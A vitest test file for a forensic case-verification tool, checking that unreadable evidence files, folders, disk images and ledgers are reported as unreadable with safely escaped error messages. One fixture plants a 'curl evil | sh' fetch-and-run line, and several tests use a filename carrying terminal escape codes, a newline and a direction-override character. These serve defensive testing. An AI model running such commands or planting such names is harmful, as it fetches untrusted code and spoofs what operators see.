/**
 * verify of a case whose files or folders are there but cannot be read: an examiner who is not
 * the collecting user (case files are 0600) gets a verdict naming each one, never a crash and
 * never "missing". Permissions are simulated (root reads everything): `node:fs` answers EACCES
 * for the paths a test denies, as the kernel would for mode 000; one test uses real permissions
 * when not run as root.
 */
import { createHash } from 'node:crypto';
import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { openCase, verifyCase, type CaseHandle } from '../../src/custody/index.js';
import { buildClosedCase, caseOptions, useScratch } from './helpers.js';
import { denied } from './denied-fs.js';

vi.mock('node:fs', async (original) => (await import('./denied-fs.js')).deniedFs(await original()));
vi.mock('node:fs/promises', async (original) => (await import('./denied-fs.js')).deniedFsPromises(await original()));

// The case built by buildClosedCase records its two files in entries 3 and 4.
const ITEM = 'evidence/ev-aaaaaaaaaaaa';
const DESCRIBE = `${ITEM}/instance.json`;
const LOG = `${ITEM}/console-output.log`;

describe('verify of files that cannot be read', () => {
  const scratch = useScratch();
  let kase: CaseHandle;

  beforeEach(async () => {
    denied.clear();
    kase = await buildClosedCase(scratch);
  });

  it('an evidence file that cannot be opened is named as unreadable (not checked), and the rest is still verified', async () => {
    denied.files.add(join(kase.caseDir, LOG));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: LOG, entrySeq: 4 })]);
    expect(result.firstProblem?.message).toMatch(/^evidence\/ev-aaaaaaaaaaaa\/console-output\.log \(recorded in entry 4\) cannot be read, so it was not checked: EACCES/);
    expect(result.evidence.verified).toBe(1);
  });

  it('the files of an evidence folder that cannot be read are unreadable, not missing, and the folder is named', async () => {
    denied.folders.add(join(kase.caseDir, ITEM));
    const result = await verifyCase(kase.caseDir);
    expect(result.problems.map((p) => [p.kind, p.path, p.entrySeq])).toEqual([
      ['unreadable', DESCRIBE, 3],
      ['unreadable', LOG, 4],
      ['unreadable', ITEM, undefined],
    ]);
  });

  it('an evidence folder that can be searched but not listed fails: an unrecorded file in it could not be looked for', async () => {
    await writeFile(join(kase.caseDir, ITEM, 'planted.sh'), 'curl evil | sh');
    denied.listing.add(join(kase.caseDir, ITEM));
    const result = await verifyCase(kase.caseDir);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: ITEM })]);
    expect(result.firstProblem?.message).toMatch(/cannot be listed, so a file in it that no entry records could not be looked for/);
  });

  it('a raw disk image in the case folder that cannot be read is named as unreadable', async () => {
    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0045' }));
    const bytes = Buffer.alloc(4096, 7);
    await mkdir(join(open.caseDir, 'images'));
    await writeFile(join(open.caseDir, 'images', 'vol-1.raw'), bytes);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    await open.record('disk.imaged', { volumeId: 'vol-1', path: 'images/vol-1.raw', insideCase: true, sha256, size: bytes.length });
    await open.close();
    expect((await verifyCase(open.caseDir)).ok).toBe(true);
    denied.files.add(join(open.caseDir, 'images', 'vol-1.raw'));
    const result = await verifyCase(open.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: 'images/vol-1.raw', entrySeq: 2 })]);
  });

  describe('a name from the case folder inside a filesystem error', () => {
    // Node writes the path it failed on into its message as it stands; a name in the case folder
    // may hold an escape sequence, a newline, a direction override.
    const HOSTILE = 'x\u001b[2J\r\nOK\u202e';
    const shown = (path: string) => `"${path}${String.raw`x\u001b[2J\r\nOK\u202e`}"`;
    // eslint-disable-next-line no-control-regex
    const RAW_CONTROL = /[\u0000-\u001f\u007f-\u009f\u202e]/;

    it('a folder of evidence/ that cannot be listed: its name is escaped in the error too', async () => {
      const folder = `${ITEM}/${HOSTILE}`;
      await mkdir(join(kase.caseDir, folder));
      denied.listing.add(join(kase.caseDir, folder));
      const result = await verifyCase(kase.caseDir);
      expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: folder })]);
      const { message } = result.firstProblem!;
      expect(message).toBe(`${shown(`${ITEM}/`)} cannot be listed, so a file in it that no entry records could not be looked for: EACCES: permission denied, scandir ${shown(`${ITEM}/`)}`);
      expect(message).not.toMatch(RAW_CONTROL);
    });

    it('a disk image that cannot be read: its recorded name is escaped in the error too', async () => {
      const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0046' }));
      const bytes = Buffer.alloc(4096, 7);
      const path = `images/${HOSTILE}`;
      await mkdir(join(open.caseDir, 'images'));
      await writeFile(join(open.caseDir, path), bytes);
      const sha256 = createHash('sha256').update(bytes).digest('hex');
      await open.record('disk.imaged', { volumeId: 'vol-1', path, insideCase: true, sha256, size: bytes.length });
      await open.close();
      denied.files.add(join(open.caseDir, path));
      const result = await verifyCase(open.caseDir);
      expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path, entrySeq: 2 })]);
      const { message } = result.firstProblem!;
      expect(message).toBe(`the disk image ${shown('images/')} (recorded in entry 2) cannot be read, so it was not checked: EACCES: permission denied, open ${shown('images/')}`);
      expect(message).not.toMatch(RAW_CONTROL);
    });

    it('the ledger that cannot be read: named within the case folder, not by the path verify was given', async () => {
      denied.files.add(join(kase.caseDir, 'ledger.jsonl'));
      const result = await verifyCase(kase.caseDir);
      expect(result.firstProblem).toMatchObject({ kind: 'ledger-missing', message: 'cannot read ledger.jsonl: EACCES: permission denied, open ledger.jsonl' });
    });
  });

  it.skipIf(process.getuid?.() === 0 || process.platform === 'win32')('with real permissions: a file of mode 000 is unreadable, not a crash', async () => {
    await chmod(join(kase.caseDir, LOG), 0o000);
    const result = await verifyCase(kase.caseDir);
    expect(result.problems).toEqual([expect.objectContaining({ kind: 'unreadable', path: LOG, entrySeq: 4 })]);
  });
});
